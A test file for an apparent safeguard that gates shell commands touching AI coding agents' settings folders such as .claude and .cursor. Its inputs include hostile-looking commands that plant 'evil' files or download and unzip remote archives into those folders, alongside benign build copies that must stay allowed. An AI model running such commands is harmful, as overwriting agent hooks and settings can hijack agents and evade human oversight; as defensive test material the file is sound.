// A copy, sync or extraction into a host's settings folder (`.claude`,
// `.cursor`, `.vscode`, `.gemini`, `.codex`, in the workspace or the home)
// gets the decision the direct write of the file it replaces gets, whether
// what lands can be read (a folder, an archive) or not (an archive missing
// now, a folder made on the line). Into the workspace folder itself, and
// into folders that hold nothing protected, it stays quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { evaluate } from '../../../src/core/engine';
import { assertGatedBy } from '../support/helpers';

function world(): { root: string; ws: string; home: string; done(): void } {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ag-landings-')));
  const ws = path.join(root, 'home', 'code', 'app');
  const home = path.join(root, 'home');
  fs.mkdirSync(path.join(ws, 'src'), { recursive: true });
  fs.writeFileSync(path.join(ws, 'src', 'index.ts'), 'export const x = 1;\n');
  return { root, ws, home, done: () => fs.rmSync(root, { recursive: true, force: true }) };
}

test("an extraction or copy into a host's settings folder whose contents cannot be read asks, as the direct write of its hook file does", () => {
  const w = world();
  try {
    const decide = (command: string) => evaluate({ command, cwd: w.ws }, { workspace: w.ws, home: w.home, env: {} });
    const direct = decide('cp evil.json .claude/settings.json');
    assert.equal(direct.decision, 'ask', 'the direct write is gated');
    for (const command of [
      'unzip -o x.zip -d .claude',
      'tar -xf x.tar -C .claude',
      'bsdtar -xf x.tar -C .cursor',
      '7z x x.zip -o.claude',
      'cpio -i -D .claude',
      'ditto -x x.zip .claude',
      'cp -r /tmp/evil/. .claude/',
      'rsync -a /tmp/evil/ .claude/',
      'unzip -o x.zip -d .vscode',
      'unzip -o x.zip -d .gemini',
      'tar -xzf x.tgz -C .codex',
      'unzip -o x.zip -d ~/.claude',
      'curl -fsSLo x.zip https://x.example/x.zip && unzip -o x.zip -d .claude',
    ]) {
      assertGatedBy(decide(command), 'path.agentguard', command);
    }
    const quiet = [
      'unzip x.zip -d build/',
      'tar -xf node.tar.gz -C vendor',
      'cp -r src/. dist/',
      'rsync -a src/ dist/',
    ];
    for (const command of quiet) assert.equal(decide(command).decision, 'allow', command);
    // An archive missing now and made by nothing before it fails to extract: quiet. Fetched first, it may land
    // anything at the workspace's top: no protected path is named, though the CI files and hooks it may land
    // ask (packs/pipelines/landed.ts).
    for (const command of ['tar -xzf release.tgz', 'unzip -o x.zip'])
      assert.equal(decide(command).decision, 'allow', command);
    for (const command of [
      'curl -LO https://x.example.com/release.tgz && tar -xzf release.tgz',
      'wget https://x.example.com/x.zip && unzip -o x.zip',
    ]) {
      const ids = decide(command).findings.map((f) => f.id);
      assert.ok(!ids.includes('path.agentguard'), `${command}: ${ids}`);
      assert.ok(ids.includes('autorun.landed-unread'), `${command}: ${ids}`);
    }
  } finally {
    w.done();
  }
});
